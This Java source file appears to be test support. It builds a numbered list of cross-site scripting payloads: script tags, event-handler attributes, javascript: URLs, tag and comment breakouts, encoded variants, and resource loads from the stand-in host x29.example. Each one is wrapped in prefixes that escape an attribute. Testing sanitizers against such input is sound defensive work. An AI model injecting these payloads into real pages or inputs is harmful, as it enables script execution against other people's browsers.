package org.gemba.proof;

import java.util.ArrayList;
import java.util.List;

/**
 * Texts that try to be more than text once a browser reads them: scripts, handlers, addresses, ways out of an attribute, a
 * text field, a comment, a drawing. Each calls {@code x29} with its number if it ever runs, and stands in one line.
 */
final class HostileTexts {
    private static final List<String> CORES = List.of(
            "<script>x29(%d)</script>",
            "<ScRiPt>x29(%d)</sCrIpT>",
            "<script src=//x29.example/%d></script>",
            "<script>/*<script>*/x29(%d)</script>",
            "<img src=x onerror=x29(%d)>",
            "<img src=x onerror='x29(%d)'//",
            "<img/src=x/onerror=x29(%d)>",
            "<svg onload=x29(%d)>",
            "<svg><script>x29(%d)</script></svg>",
            "<svg><a href=javascript:x29(%d)><text y=9>x",
            "<svg><animate onbegin=x29(%d) attributeName=x>",
            "<svg><use href='data:image/svg+xml,<svg id=x>%d#x'>",
            "</text></svg><img src=x onerror=x29(%d)>",
            "</title><script>x29(%d)</script>",
            "</textarea><script>x29(%d)</script>",
            "</style><script>x29(%d)</script>",
            "</script><script>x29(%d)</script>",
            "</option></select><img src=x onerror=x29(%d)>",
            "</main><script>x29(%d)</script><main>",
            "--><script>x29(%d)</script><!--",
            "]]><script>x29(%d)</script>",
            "<![CDATA[<script>x29(%d)</script>]]>",
            "<?x ?><script>x29(%d)</script>",
            "<iframe srcdoc='<script>parent.x29(%d)</script>'>",
            "<iframe src=javascript:parent.x29(%d)>",
            "<object data=javascript:x29(%d)>",
            "<embed src=javascript:x29(%d)>",
            "<base href=//x29.example/%d/>",
            "<meta http-equiv=refresh content='0;url=//x29.example/%d'>",
            "<link rel=stylesheet href=//x29.example/%d>",
            "<style>@import '//x29.example/%d';</style>",
            "<style>*{background:url(//x29.example/%d)}</style>",
            "<i class=x29 style=position:fixed;inset:0>%d</i>",
            "<form action=//x29.example/%d><button>send",
            "<input autofocus onfocus=x29(%d)>",
            "<details open ontoggle=x29(%d)>",
            "<video><source onerror=x29(%d)></video>",
            "<audio src=x onerror=x29(%d)>",
            "<body onload=x29(%d)>",
            "<marquee onstart=x29(%d)>x",
            "<a href=javascript:x29(%d)>open</a>",
            "<a href='java&Tab;script:x29(%d)'>open</a>",
            "<math><mtext><mglyph><style></math><img src onerror=x29(%d)>",
            "<template><script>x29(%d)</script></template>",
            "<noscript><p title='</noscript><img src=x onerror=x29(%d)>'>",
            "\uFF1Cimg src=x onerror=x29(%d)\uFF1E \u2028 <img src=x onerror=x29(%d)>",
            "&lt;script&gt;x29(%d)&lt;/script&gt;",
            "&#60;img src=x onerror=x29(%d)&#62;",
            "javascript:x29(%d)",
            "${x29(%d)} #{x29} {{x29}} {0} @{x29}");

    /** Nothing, the way out of an attribute in double quotes, and of one in single quotes. */
    private static final List<String> WAYS_OUT = List.of("%s", "\">%s", "' autofocus onfocus=x29() '>%s");

    private HostileTexts() {}

    /** All of them, each with a number of its own by which it is found again. */
    static List<String> all() {
        List<String> all = new ArrayList<>();
        for (String out : WAYS_OUT) {
            for (String core : CORES) {
                all.add(out.replace("%s", core.replace("%d", Integer.toString(1000 + all.size()))));
            }
        }
        return List.copyOf(all);
    }
}
